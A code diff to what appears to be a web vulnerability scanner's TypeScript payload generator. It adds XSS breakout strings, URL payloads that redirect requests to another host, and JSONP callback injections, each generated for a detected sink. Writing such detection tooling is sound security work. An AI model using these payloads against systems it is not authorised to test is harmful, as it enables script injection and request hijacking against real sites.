@@ -10,6 +10,10 @@ export interface SinkHit {
 }
 
 const PAYLOADS_MAX = 9;
+/** Sink of a value that chooses the host of a request. */
+export const REQUEST_SINK = 'request';
+/** Reported in place of a value when our function is called with the data of a JSONP endpoint. */
+export const CALLED_BACK = 'called back';
 
 /**
  * Strings that call a function if the sinks execute them, likeliest first.
@@ -26,12 +30,35 @@ export function payloadsFor(hits: readonly SinkHit[], call: string): string[] {
       `<img src=x onerror=${call}>`,
       `"><img src=x onerror=${call}>`,
       `'><img src=x onerror=${call}>`,
-      `"'></script></title></textarea></style><img/src=x/onerror=${call}>`,
+      `"'></script></title></textarea></style><img/src/onerror=${call}>`,
       `--><img src=x onerror=${call}>`,
     );
   for (const hit of hits.filter(({ sinkKind }) => sinkKind === 'script')) add(...scriptPayloads(hit, call));
-  if (kinds.has('url')) add(`javascript:${call}`, `data:text/javascript,${call}`);
+  if (hits.some(({ sinkKind, sink }) => sinkKind === 'url' && sink !== REQUEST_SINK))
+    add(`javascript:${call}//`, `data:text/javascript,${call}`);
   return [...found].slice(0, PAYLOADS_MAX);
+}
+
+/**
+ * Strings that make a URL lead to another host, whatever stands in front of them.
+ * @param host a host that cannot exist
+ */
+export function hostPayloads(hits: readonly SinkHit[], host: string): string[] {
+  const found = new Set<string>();
+  for (const { text, at } of hits.filter(({ sinkKind }) => sinkKind === 'url')) {
+    const before = text.slice(0, at).trim();
+    if (before === '/') found.add(`/${host}/`);
+    else if (/^https?:\/\/[^/?#]{1,100}$/i.test(before)) found.add(`.${host}/`).add(`@${host}/`);
+    else if (before === '') found.add(`https://${host}/`).add(`//${host}/`);
+  }
+  return [...found];
+}
+
+/** Strings that make a script that a page requests call our function: as the callback of a JSONP endpoint. */
+export function callbackPayloads(hits: readonly SinkHit[], name: string): string[] {
+  const isQuery = ({ sinkKind, sink, text, at }: SinkHit) =>
+    sinkKind === 'url' && /script/i.test(sink) && text.slice(0, at).includes('?');
+  return hits.some(isQuery) ? [`&callback=${name}&`, `&jsonp=${name}&`] : [];
 }
 
 /** Parameters that give a property to every object, where a parser copies names without a check. */
